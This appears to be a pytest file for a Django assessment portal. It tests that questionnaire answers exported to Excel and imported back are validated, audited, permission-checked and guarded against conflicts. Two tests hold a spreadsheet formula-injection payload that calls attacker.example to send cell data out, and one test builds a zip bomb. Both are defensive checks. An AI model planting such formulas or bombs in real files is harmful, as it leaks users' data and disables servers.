"""A preparer answers offline in an exported workbook and imports it back."""

import datetime
import html
import io
import zipfile

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.actors import Actor
from assessments import answers, workflow
from assessments.answers import AnswerInput, save_answers
from assessments.models import Answer, AuditAction, AuditEvent
from assessments.workbooks import ANSWERS, COLUMN
from questionnaires.frameworks.schema import QuestionType


def download(client, assessment):
    response = client.get(reverse("workbook_download", args=[assessment.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def fill(book, answers: dict) -> io.BytesIO:
    """Set cells by question id: {"q.id": {"answer": ..., "not_applicable": ..., "why": ...}}."""
    sheet = book[ANSWERS]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for question_id, cells in answers.items():
        if question_id not in rows:  # a row the person added
            sheet.append([question_id])
            rows[question_id] = sheet[sheet.max_row]
        for key, value in cells.items():
            rows[question_id][COLUMN[key]].value = value
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    out.name = "answers.xlsx"
    return out


def upload(client, assessment, file, apply_valid_rows=False):
    data = {"workbook": file}
    if apply_valid_rows:
        data["apply_valid_rows"] = "on"
    return client.post(reverse("workbook_import", args=[assessment.pk]), data)


def stored(assessment) -> dict:
    return {a.question_id: a for a in Answer.objects.filter(assessment=assessment)}


def test_a_filled_in_workbook_saves_every_changed_row_on_the_audit_trail(client, draft, preparer):
    client.force_login(preparer)
    book = fill(
        download(client, draft),
        {
            "age.method": {"answer": "Age estimation with a fallback check"},
            "scope.age_bands:under_13": {"answer": "Yes"},  # picked from the row's list
            "scope.age_bands:age_13_15": {"answer": "Yes"},
            "scope.monthly_minors": {"answer": 1200},
            "legal.review_date": {"answer": datetime.datetime(2026, 3, 2)},
            "education.adults": {"not_applicable": "yes", "why": "Pupils only; no adults."},
        },
    )
    page = upload(client, draft, book)
    assert page.status_code == 200
    assert "5 answers saved" in page.text
    answers = stored(draft)
    assert answers["age.method"].value == "estimation"
    assert answers["scope.age_bands"].value == ["under_13", "age_13_15"]
    assert answers["scope.monthly_minors"].value == 1200
    assert answers["legal.review_date"].value == "2026-03-02"
    assert answers["education.adults"].not_applicable
    assert answers["education.adults"].justification == "Pupils only; no adults."
    assert set(answers) == {
        "age.method",
        "scope.age_bands",
        "scope.monthly_minors",
        "legal.review_date",
        "education.adults",
    }
    saved_events = AuditEvent.objects.filter(action=AuditAction.ANSWER_SAVED, actor=preparer)
    assert saved_events.count() == 5


def test_the_workbook_carries_the_answers_help_and_allowed_values(client, complete_draft, preparer):
    client.force_login(preparer)
    sheet = download(client, complete_draft)[ANSWERS]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    method = rows["age.method"]
    assert method[COLUMN["question"]].value.startswith("How do you")
    assert "One of:" in method[COLUMN["allowed"]].value
    assert method[COLUMN["answer"]].value  # the current answer, as its label
    assert sheet.data_validations.dataValidation  # choice questions have a list to pick from


def test_a_multiple_choice_question_is_picked_option_by_option_not_typed(
    client, complete_draft, preparer
):
    client.force_login(preparer)
    book = download(client, complete_draft)
    sheet = book[ANSWERS]
    ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
    question = complete_draft.framework_version.framework.questions["scope.age_bands"]
    saved = stored(complete_draft)["scope.age_bands"].value
    at = ids.index("scope.age_bands")
    assert ids[at + 1 : at + 1 + len(question.options)] == [
        f"scope.age_bands:{o.value}" for o in question.options
    ]  # one row per option, right below the question
    option_rows = list(sheet.iter_rows(min_row=at + 3, max_row=at + 2 + len(question.options)))
    assert [r[COLUMN["answer"]].value == "Yes" for r in option_rows] == [
        o.value in saved for o in question.options
    ]  # the saved picks, shown
    validated = {str(cell) for rule in sheet.data_validations.dataValidation for cell in rule.sqref}
    assert {r[COLUMN["answer"]].coordinate for r in option_rows} <= validated  # a list each

    unpicked = next(o for o in question.options if o.value not in saved)
    answers_now = {
        f"scope.age_bands:{unpicked.value}": {"answer": "Yes"},
        f"scope.age_bands:{saved[0]}": {"answer": None},
    }
    assert upload(client, complete_draft, fill(book, answers_now)).status_code == 200
    expected = [
        o.value for o in question.options if o.value in (set(saved) - {saved[0]}) | {unpicked.value}
    ]
    assert stored(complete_draft)["scope.age_bands"].value == expected


def test_options_typed_into_the_question_row_or_a_wrong_pick_are_explained(client, draft, preparer):
    client.force_login(preparer)
    book = fill(
        download(client, draft),
        {
            "scope.age_bands": {"answer": "Children under 13; teenagers aged 13 to 15"},
            "scope.age_bands:under_13": {"answer": "maybe"},
        },
    )
    page = upload(client, draft, book)
    assert page.status_code == 422
    assert "Pick the options with “Yes” in the rows below this one." in html.unescape(page.text)
    assert "Write “Yes” beside Children under 13, or leave it empty." in html.unescape(page.text)
    assert "scope.age_bands" not in stored(draft)


def test_the_workbook_shows_and_requires_what_the_portal_does_with_the_standing(
    client, complete_draft, preparer
):
    client.force_login(preparer)
    result = answers.result_for(complete_draft)
    framework = complete_draft.framework_version.framework
    hidden = set(framework.questions) - set(result.by_question)
    sheet = download(client, complete_draft)[ANSWERS]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    core_rows = {qid: row for qid, row in rows.items() if qid in framework.questions}

    assert hidden  # the scope answers hide some questions: the workbook leaves them out too
    assert set(core_rows) == set(result.by_question)
    for qid, row in core_rows.items():
        shown = result.by_question[qid]
        assert row[COLUMN["needed"]].value == ("required" if shown.required else "optional")
        assert row[COLUMN["status"]].value == shown.status.label
        assert (row[COLUMN["critical"]].value == "critical") == shown.question.critical


def test_rows_with_problems_save_nothing_and_say_what_is_wrong_by_question(client, draft, preparer):
    client.force_login(preparer)
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
    book = fill(
        download(client, draft),
        {
            "age.method": {"answer": "Age estimation with a fallback check"},  # valid
            "legal.review_date": {"answer": datetime.datetime.combine(tomorrow, datetime.time())},
            "scope.monthly_minors": {"answer": -5},
            "scope.age_bands": {"answer": "Toddlers"},
            "education.adults": {"not_applicable": "yes"},
            "scope.product": {"not_applicable": "yes", "why": "We have none."},
            "age.method_detail": {"answer": "x"},
        },
    )
    page = upload(client, draft, book)
    assert page.status_code == 422
    assert "Nothing was saved" in page.text
    assert "This date is in the future" in page.text
    assert "greater than or equal to 0" in page.text
    assert "Pick the options with “Yes” in the rows below this one." in page.text
    assert "a justification is required" in page.text
    assert "cannot be marked not applicable" in page.text
    assert "There is no question “age.method_detail”" in page.text
    assert stored(draft) == {}


def test_the_valid_rows_are_saved_when_the_preparer_asks(client, draft, preparer):
    client.force_login(preparer)
    book = fill(
        download(client, draft),
        {
            "age.method": {"answer": "Age estimation with a fallback check"},
            "scope.monthly_minors": {"answer": "many"},
        },
    )
    page = upload(client, draft, book, apply_valid_rows=True)
    assert page.status_code == 200
    assert "1 answer saved" in page.text
    assert "Enter a number" in page.text
    assert set(stored(draft)) == {"age.method"}


def test_a_row_changed_in_the_portal_since_the_export_is_a_conflict_not_an_overwrite(
    client, draft, preparer, admin
):
    save_answers(draft, [AnswerInput("age.method", "self_declared")], actor=Actor(preparer))
    save_answers(draft, [AnswerInput("scope.product", "Homework helper")], actor=Actor(preparer))
    client.force_login(preparer)
    book = download(client, draft)
    # Meanwhile a colleague changes both answers in the portal.
    answers = stored(draft)
    save_answers(
        draft,
        [
            AnswerInput("age.method", "verified", base_revision=answers["age.method"].revision),
            AnswerInput("scope.product", "Tutor", base_revision=answers["scope.product"].revision),
        ],
        actor=Actor(admin),
    )
    # The workbook changes one of them and leaves the other as exported.
    page = upload(
        client,
        draft,
        fill(book, {"age.method": {"answer": "Accounts issued by a school or parent"}}),
    )
    assert page.status_code == 200
    assert "Changed in the portal since you downloaded the workbook" in page.text
    assert "Avery Admin" in page.text
    answers = stored(draft)
    assert answers["age.method"].value == "verified"  # theirs stands
    assert answers["scope.product"].value == "Tutor"  # an untouched row changes nothing


def test_an_answer_that_looks_like_a_formula_is_exported_as_text(client, draft, preparer):
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    save_answers(draft, [AnswerInput("scope.product", formula)], actor=Actor(preparer))
    client.force_login(preparer)
    rows = {row[0].value: row for row in download(client, draft)[ANSWERS].iter_rows(min_row=2)}
    cell = rows["scope.product"][COLUMN["answer"]]
    assert cell.value == formula
    assert cell.data_type == "s"


def test_no_cell_of_any_sheet_is_a_formula_whatever_people_typed(client, draft, preparer):
    """Names and answers are other people's words: a spreadsheet opening the export must
    show them, never run them (the About sheet once wrote the organization's name live)."""
    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    draft.organization.legal_name = hostile
    draft.organization.save()
    free_text = [q for s in draft.framework_version.framework.sections for q in s.questions]
    free_text = [q for q in free_text if q.type == QuestionType.TEXT]
    save_answers(
        draft, [AnswerInput(q.id, "+" + hostile[1:]) for q in free_text], actor=Actor(preparer)
    )
    client.force_login(preparer)

    book = download(client, draft)

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in book["About"]["B"]]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert len([c for c in cells if str(c.value).startswith(("=", "+"))]) > len(free_text)


def test_a_file_that_is_not_a_workbook_gets_a_clear_message(client, draft, preparer):
    client.force_login(preparer)
    file = io.BytesIO(b"%PDF-1.7 not a spreadsheet")
    file.name = "answers.xlsx"
    page = upload(client, draft, file)
    assert page.status_code == 422
    assert "not an Excel workbook (.xlsx)" in page.text


def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, draft, preparer):
    client.force_login(preparer)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (41 * 1024 * 1024))
    file.seek(0)
    file.name = "answers.xlsx"
    page = upload(client, draft, file)
    assert page.status_code == 422
    assert "unpacks to far more than a workbook holds" in page.text


def test_another_assessments_workbook_is_refused(
    client, draft, preparer, other_org, outsider, framework_version
):
    theirs = workflow.start_assessment(
        organization=other_org, framework_version=framework_version, actor=Actor(outsider)
    )
    client.force_login(outsider)
    book = fill(download(client, theirs), {"age.method": {"answer": "verified"}})
    client.force_login(preparer)
    page = upload(client, draft, book)
    assert page.status_code == 422
    assert "belongs to another assessment (Elsewhere Tutors Inc." in page.text
    assert stored(draft) == {}


def test_who_may_download_and_import(client, draft, preparer, signatory, outsider, reviewer):
    download_url = reverse("workbook_download", args=[draft.pk])
    import_url = reverse("workbook_import", args=[draft.pk])
    client.force_login(outsider)
    assert client.get(download_url).status_code == 404
    assert client.get(import_url).status_code == 404
    client.force_login(reviewer)
    assert client.get(download_url).status_code == 200
    client.force_login(signatory)
    assert client.get(download_url).status_code == 200
    file = io.BytesIO(b"x")
    file.name = "answers.xlsx"
    assert client.post(import_url, {"workbook": file}).status_code == 403
    client.logout()
    assert client.get(download_url).status_code == 302


def test_a_submitted_assessment_takes_no_import(client, awaiting_signature, preparer):
    client.force_login(preparer)
    book = fill(download(client, awaiting_signature), {"scope.product": {"answer": "Changed"}})
    before = stored(awaiting_signature)["scope.product"].value
    page = upload(client, awaiting_signature, book)
    assert page.status_code == 302
    assert page["Location"] == reverse("assessment", args=[awaiting_signature.pk])
    assert stored(awaiting_signature)["scope.product"].value == before
